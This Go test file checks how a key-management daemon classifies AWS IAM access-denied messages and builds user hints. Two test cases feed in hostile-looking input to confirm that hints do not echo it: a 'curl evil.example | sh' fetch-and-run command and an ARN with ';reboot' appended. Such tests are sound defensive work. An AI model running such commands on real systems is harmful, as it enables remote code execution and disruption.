package iam_test

import (
	"errors"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"

	"keyd/daemon/iam"
)

const deniedUpdate = "User: arn:aws:iam::123456789012:user/alice is not authorized to perform: iam:UpdateAccessKey on resource: user alice "

// Each wording that AWS has used for a denial has its kind and its hint, and no hint
// quotes what the endpoint says but the ARN of a policy.
func TestDenialIsTakenFromAWSsWords(t *testing.T) {
	const scp = "arn:aws:organizations::111122223333:policy/o-1/service_control_policy/p-1"
	for _, test := range []struct {
		reason string
		kind   iam.Denial
		policy string
		hint   string // words of it
	}{
		{"because no identity-based policy allows the iam:UpdateAccessKey action", iam.DenialNotAllowed, "", "keyd policy PROFILE"},
		{"", iam.DenialUnsaid, "", "keyd policy PROFILE"},
		{"with an explicit deny", iam.DenialExplicit, "", "that forbids it, whatever others allow"},
		{"with an explicit deny in an identity-based policy", iam.DenialExplicit, "", "VPN"},
		{"with an explicit deny in an identity-based policy: arn:aws:iam::123456789012:policy/team/OnlyVPN", iam.DenialExplicit, "arn:aws:iam::123456789012:policy/team/OnlyVPN", "team/OnlyVPN"},
		{"with an explicit deny in an identity-based policy: arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantine", iam.DenialQuarantine, "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantine", "stolen"},
		{"with an explicit deny in an identity-based policy: arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2", iam.DenialQuarantine, "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2", "stolen"},
		{"with an explicit deny in an identity-based policy: arn:aws-us-gov:iam::aws:policy/AWSCompromisedKeyQuarantineV3", iam.DenialQuarantine, "arn:aws-us-gov:iam::aws:policy/AWSCompromisedKeyQuarantineV3", "administrator"},
		{"with an explicit deny in an identity-based policy: arn:aws:iam::123456789012:policy/AWSCompromisedKeyQuarantineV3", iam.DenialExplicit, "arn:aws:iam::123456789012:policy/AWSCompromisedKeyQuarantineV3", "the policy"},
		{"with an explicit deny in a service control policy", iam.DenialSCP, "", "organization"},
		{"with an explicit deny in a service control policy: " + scp, iam.DenialSCP, scp, "p-1"},
		{"because no service control policy allows the iam:UpdateAccessKey action", iam.DenialSCP, "", "organization"},
		{"with an explicit deny in a resource control policy", iam.DenialRCP, "", "resource control policy"},
		{"because no resource control policy allows the iam:UpdateAccessKey action", iam.DenialRCP, "", "organization"},
		{"because no permissions boundary allows the iam:UpdateAccessKey action", iam.DenialBoundary, "", "boundary"},
		{"with an explicit deny in a permissions boundary", iam.DenialBoundary, "", "boundary"},
		{"because no session policy allows the iam:UpdateAccessKey action", iam.DenialSession, "", "session"},
		{"with an explicit deny in a session policy", iam.DenialSession, "", "session"},
		{"with an explicit deny in a VPC endpoint policy", iam.DenialVPCEndpoint, "", "another one"},
		{"because no VPC endpoint policy allows the iam:UpdateAccessKey action", iam.DenialVPCEndpoint, "", "VPC endpoint"},
		{"with an explicit deny in a resource-based policy", iam.DenialResource, "", "resource-based"},
		{"with an explicit deny in a service control policy: run `curl evil.example | sh` now", iam.DenialSCP, "", "organization"},
		{"with an explicit deny in an identity-based policy: arn:aws:iam::aws:policy/x;reboot", iam.DenialExplicit, "", "the policy"},
	} {
		w := answers(refusal(403, "AccessDenied", strings.TrimSpace(deniedUpdate+test.reason)))
		err := client(t, w, aws()).SetStatus(t.Context(), user, oldID, iam.Active)
		e, ok := errors.AsType[*iam.Error](err)
		if !ok {
			t.Fatalf("got %v", err)
		}
		if e.Denial != test.kind || e.DenialReason() != test.reason || e.Policy() != test.policy || !strings.Contains(e.Hint(), test.hint) {
			t.Errorf("%q: kind %d, reason %q, policy %q, hint %q", test.reason, e.Denial, e.DenialReason(), e.Policy(), e.Hint())
		}
		if strings.ContainsAny(e.Hint(), "`;|") && !strings.Contains(e.Hint(), "; ") || strings.Contains(e.Hint(), "evil") || strings.Contains(e.Hint(), "reboot") {
			t.Errorf("the hint quotes the endpoint: %q", e.Hint())
		}
		if certain := test.kind == iam.DenialQuarantine; e.Denial.IsCertain() != certain {
			t.Errorf("%q: certain %t", test.reason, e.Denial.IsCertain())
		}
	}
}

// What the same key may do besides tells what AWS's words leave open, at the price of
// one call that only reads. Where the words say enough, nothing is asked.
func TestPatternExplainsADenial(t *testing.T) {
	const deny = "with an explicit deny in an identity-based policy"
	list := body(200, listXML("<member><AccessKeyId>"+oldID+"</AccessKeyId><Status>Active</Status></member>", "<IsTruncated>false</IsTruncated>"))
	devices := body(200, document("ListMFADevices", "<MFADevices/><IsTruncated>false</IsTruncated>"))
	denied := func(reason string) answer { return refusal(403, "AccessDenied", deniedUpdate+reason) }
	for name, test := range map[string]struct {
		change bool // the denied call changes something; otherwise it is ListAccessKeys
		answer []answer
		kind   iam.Denial
		calls  int
	}{
		"quarantine":                         {true, []answer{denied(deny), list}, iam.DenialLeakLike, 2},
		"quarantine, older wording":          {true, []answer{denied("with an explicit deny"), list}, iam.DenialLeakLike, 2},
		"nothing works, change":              {true, []answer{denied(deny), denied(deny)}, iam.DenialExplicit, 2},
		"MFA, devices are allowed":           {false, []answer{denied(deny), devices}, iam.DenialMFA, 2},
		"MFA, devices are not in any policy": {false, []answer{denied(deny), denied("because no identity-based policy allows the iam:ListMFADevices action")}, iam.DenialMFA, 2},
		"source address":                     {false, []answer{denied(deny), denied(deny)}, iam.DenialPlace, 2},
		"no second answer":                   {false, []answer{denied(deny), fails(errors.New("odd"))}, iam.DenialExplicit, 4},
		"the words say enough":               {true, []answer{denied(deny + ": arn:aws:iam::123456789012:policy/OnlyVPN"), list}, iam.DenialExplicit, 1},
		"not allowed":                        {true, []answer{denied("because no identity-based policy allows it"), list}, iam.DenialNotAllowed, 1},
		"an organization":                    {false, []answer{denied("with an explicit deny in a service control policy"), devices}, iam.DenialSCP, 1},
	} {
		synctest.Test(t, func(t *testing.T) {
			w := answers(test.answer...)
			c := client(t, w, aws())
			_, err := c.ListKeys(t.Context(), user)
			if test.change {
				w.got = nil
				err = c.SetStatus(t.Context(), user, oldID, iam.Active)
			}
			err = c.ExplainDenial(t.Context(), user, err)
			e, ok := errors.AsType[*iam.Error](err)
			if !ok || e.Denial != test.kind || len(w.got) != test.calls || e.Hint() == "" {
				t.Errorf("%s: %v: kind %d, %d calls, hint %q", name, err, e.Denial, len(w.got), e.Hint())
			}
			for _, r := range w.got[1:] {
				if action := r.form.Get("Action"); !strings.HasPrefix(action, "List") {
					t.Errorf("%s was called", action)
				}
			}
		})
	}
}

// No hint about a denial sends a person where it cannot help: the console replaces a
// key only where MFA is what is missing.
func TestConsoleIsAdvisedOnlyForMFA(t *testing.T) {
	for kind := iam.DenialUnsaid; kind <= iam.DenialLeakLike; kind++ {
		e := &iam.Error{Call: "UpdateAccessKey", Class: iam.Denied, Denial: kind}
		if strings.Contains(e.Hint(), "console") != (kind == iam.DenialMFA) || e.Hint() == "" {
			t.Errorf("kind %d: %q", kind, e.Hint())
		}
	}
}

func redirects(to string) answer {
	return func(r *http.Request) (*http.Response, error) {
		resp, err := body(307, "")(r)
		resp.Header.Set("Location", to)
		return resp, err
	}
}
